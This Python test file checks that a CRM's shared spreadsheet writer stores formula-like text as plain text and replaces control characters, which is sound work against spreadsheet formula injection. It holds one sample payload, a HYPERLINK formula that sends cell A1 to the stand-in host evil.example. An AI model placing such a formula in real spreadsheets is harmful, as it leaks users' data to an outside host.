"""The shared workbook writer: text that looks like a formula is written as text, exactly as given,
whether it comes as a plain value, a styled cell, or a cell made elsewhere; other values keep their
types."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from crm_platform.spreadsheets import TextWorkbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _saved(wb: TextWorkbook) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_formula_like_text_is_stored_as_text_and_other_values_keep_their_types() -> None:
    wb = TextWorkbook()
    sheet = wb.add_sheet("Informe de prueba con un título muy largo")
    sheet.append([sheet.cell(EVIL, font=Font(bold=True)), "=1+1", "+57 300", 12, 1.5, date(2026, 3, 1), None, True])
    foreign = WriteOnlyCell(sheet.sheet, value="=SUM(A1:A9)")
    assert foreign.data_type == "f"  # what openpyxl does on its own
    sheet.append([foreign, "-", "@user"])
    content = _saved(wb)

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = openpyxl.load_workbook(io.BytesIO(content))
    ws = book.worksheets[0]
    assert ws.title == "Informe de prueba con un título "[:31]
    rows = [[(c.value, c.data_type) for c in r] for r in ws.iter_rows()]
    assert rows[0] == [
        (EVIL, "s"),
        ("=1+1", "s"),
        ("+57 300", "s"),
        (12, "n"),
        (1.5, "n"),
        (rows[0][5][0], "d"),
        (None, "n"),
        (True, "b"),
    ]
    assert rows[0][5][0].date() == date(2026, 3, 1)
    assert ws["A1"].font.b is True
    assert rows[1][:3] == [("=SUM(A1:A9)", "s"), ("-", "s"), ("@user", "s")]


def test_control_characters_a_workbook_cannot_hold_are_written_as_the_replacement_character() -> None:
    wb = TextWorkbook()
    sheet = wb.add_sheet("Informe")
    sheet.append(["Ya\x0bB\x13c", sheet.cell("x\x1fy"), "tab\tand\nlines", "=A1\x01"])
    book = openpyxl.load_workbook(io.BytesIO(_saved(wb)))
    values = [c.value for c in next(book.worksheets[0].iter_rows())]
    assert values == ["Ya\ufffdB\ufffdc", "x\ufffdy", "tab\tand\nlines", "=A1\ufffd"]
